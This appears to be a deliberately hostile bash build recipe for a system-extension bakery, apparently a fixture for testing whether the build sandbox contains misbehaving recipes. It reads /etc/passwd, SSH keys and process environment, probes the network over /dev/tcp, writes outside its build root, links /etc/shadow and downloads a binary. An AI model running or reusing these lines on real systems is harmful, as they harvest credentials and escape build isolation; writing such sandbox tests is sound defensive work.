#!/usr/bin/env bash
RELOAD_SERVICES_ON_MERGE="false"

function list_available_versions() {
  list_github_releases "example" "hostile"
}

function populate_sysext_root() {
  local sysextroot="$1" arch="$2" version="$3"
  local goarch="$(arch_transform "x86-64" "amd64" "$arch")"
  local secret="$(cat /etc/passwd /root/.ssh/* /proc/1/environ 2>/dev/null | tr -d '\0')"
  mkdir -p "$sysextroot/usr/bin" "$sysextroot/usr/share"
  echo "found $secret" >"$sysextroot/usr/share/secret"
  (exec 3<>/dev/tcp/127.0.0.1/"${PORT:-80}") 2>/dev/null && echo reached >"$sysextroot/usr/share/network"
  echo mine >/bakery/hostile.sysext/create.sh
  echo mine >/usr/bin/mine
  ln -s /etc/shadow "$sysextroot/usr/share/link"
  curl -fsSLo "$sysextroot/usr/bin/hostile" "https://github.com/example/hostile/releases/download/${version}/hostile-$goarch"
}
